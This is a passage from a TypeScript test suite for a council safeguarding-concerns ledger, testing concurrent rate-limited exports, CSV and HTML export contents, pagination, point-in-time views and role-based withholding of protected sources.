    const others = [exported(hub, "chief-executive", good), exported(hub, "nominated-officer", good)];
    await vi.waitUntil(async () => begun >= others.length);
    const before = hub.logged.length;
    const cancelled = new AbortController();
    const headers = { "content-type": "application/json", authorization: `Bearer ${await hub.token("leader")}` };
    const body = JSON.stringify(good);
    const waiting = fetch(`${hub.url}/ledger`, { method: "POST", body, headers, signal: cancelled.signal });
    await vi.waitUntil(async () => (await exported(hub, "leader", good)).status === 429);
    cancelled.abort();
    await expect(waiting).rejects.toThrow();
    // Until the hub has noticed. An export that is not refused waits for the others again.
    let again = exported(hub, "leader", good);
    await vi.waitUntil(async () => {
      const refused = again.then(({ status }) => status === 429);
      if ((await Promise.race([refused, setTimeout(100, false)])) === false) return true;
      again = exported(hub, "leader", good);
      return false;
    });
    ready.resolve();
    expect((await Promise.all([again, ...others])).map(({ status }) => status)).toEqual([200, 200, 200]);
    expect(hub.logged.slice(before).filter((line) => line.includes("FAILED"))).toEqual([]);
  });
});

describe("An export of what was done twice at one time", () => {
  let story: Story;
  beforeAll(async () => {
    story = await startStory();
  });
  afterAll(() => story?.close());

  it("has the council's present words with the last of two positions in CSV, and its words at the time with each", async () => {
    const id = await story.awareConcern([proposal.body]);
    await story.does("adviser", "proposeShare", { ...proposal, concern: id });
    const share = story.hub.register.queries().findUnchecked(id)?.state().shares[0]?.id;
    for (const statement of ["For June.", "For July."])
      await story.does("chief-executive", "statePosition", {
        concern: id,
        share,
        position: "AGREES_WITH_CONDITIONS",
        parts: ["HEADLINE"],
        statement,
      });
    const { text } = await exported(story.test, "chief-executive", { council: TARROWSHIRE, format: "csv" });
    const [heads = [], ...rows] = cellsOf(text);
    const stated = rows.filter((row) => row[heads.indexOf("what")] === "The council agreed to a share with conditions");
    const columns = ["words at the time", "text", "conditions"].map((head) => heads.indexOf(head));
    expect(stated.map((row) => columns.map((at) => row[at]))).toEqual([
      ["For June.", "", ""],
      ["For July.", "For July.", "For July."],
    ]);
  });
});

it("The page lists each file with its SHA-256, two of the same content too", () => {
  const naming = namesForReading({ policies: [] }, []);
  const [one, other] = [
    { id: "1", name: "Plan.csv", sha256: "5a" },
    { id: "2", name: "Copy.csv", sha256: "5a" },
  ];
  expect([one, other, one].map(naming.file)).toEqual(["Plan.csv", "Copy.csv", "Plan.csv"]);
  expect(naming.files()).toEqual([
    { id: "5a", name: "Plan.csv" },
    { id: "5a", name: "Copy.csv" },
  ]);
});

describe("An export of more than a page", () => {
  /** More than three pages. */
  const CONCERNS = 10;
  let story: Story;
  beforeAll(async () => {
    story = await startStory();
  });
  afterAll(() => story?.close());

  it("has every concern and disclosure once", async () => {
    const ids: string[] = [];
    for (let n = 0; n < CONCERNS; n += 1) ids.push(await story.awareConcern([proposal.body]));
    for (const day of ["03", "04", "05", "06", "09", "10"]) {
      story.on(`2026-03-${day}`);
      await story.asks("second-adviser", "{ concerns(first: 100) { nodes { id } } }");
    }
    const { concerns, disclosures, totals } = await heldBy(story.test, "chief-executive");
    expect(concerns.map(({ id }) => id)).toEqual(ids.toReversed());
    expect(disclosures.length).toBeGreaterThan(CONCERNS * 6);
    expect(new Set(disclosures.map(({ id }) => id)).size).toBe(disclosures.length);
    expect(totals).toMatchObject({ concerns: CONCERNS, disclosures: disclosures.length });
  });

  it("of a time before the council was made aware of a concern is complete without it", async () => {
    const at = "2026-03-02T12:00:00.000Z";
    const late = await story.does("adviser", "logConcern", { ...concern, strand: "ADULTS" });
    story.on("2026-03-11");
    await story.seen("second-adviser", late);
    story.on("2026-03-12");
    await story.does("adviser", "recordAwareness", { ...awareness, concern: late, bodies: [], toldOn: "2026-03-12" });
    const then = { at: "2026-03-11T13:00:00.000Z" };
    expect((await heldBy(story.test, "chief-executive", then)).concerns.map(({ id }) => id)).not.toContain(late);
    const page = await exported(story.test, "chief-executive", { council: TARROWSHIRE, format: "html", ...then });
    expect(page.status).toBe(200);
    expect((await heldBy(story.test, "chief-executive", { at })).concerns.length).toBe(CONCERNS);
  });

  it("is read as the council, by an adviser who is its officer too", async () => {
    const unaware = await story.does("adviser", "logConcern", concern);
    const { people } = story.hub.services;
    const lasting = { from: "2020-01-01", until: "2039-12-31" };
    const officer = {
      person: "second-adviser",
      role: "nominated-officer",
      council: TARROWSHIRE,
      strands: ["childrens", "adults"],
      ...lasting,
    };
    await people.execute("startAssignment", officer, story.hub.asHub("two-hats"));
    expect(await story.sees("second-adviser", unaware)).not.toBeNull();
    const { concerns, disclosures } = await heldBy(story.test, "second-adviser");
    expect(concerns.length).toBe(CONCERNS + 1);
    expect(JSON.stringify([concerns, disclosures])).not.toContain(unaware);
    expect(concerns.every(({ withheld }) => (withheld as string[]).includes("PROTECTED_SOURCE"))).toBe(true);
    const own = disclosures.filter(({ surface, person }) => surface === "EXPORT" && person.id === "second-adviser");
    expect(own.flatMap(({ capacities }) => capacities.map(({ role }) => role))).not.toContain("SENIOR_ADVISER");
    expect(own.length).toBe(CONCERNS + 1);
  });
});
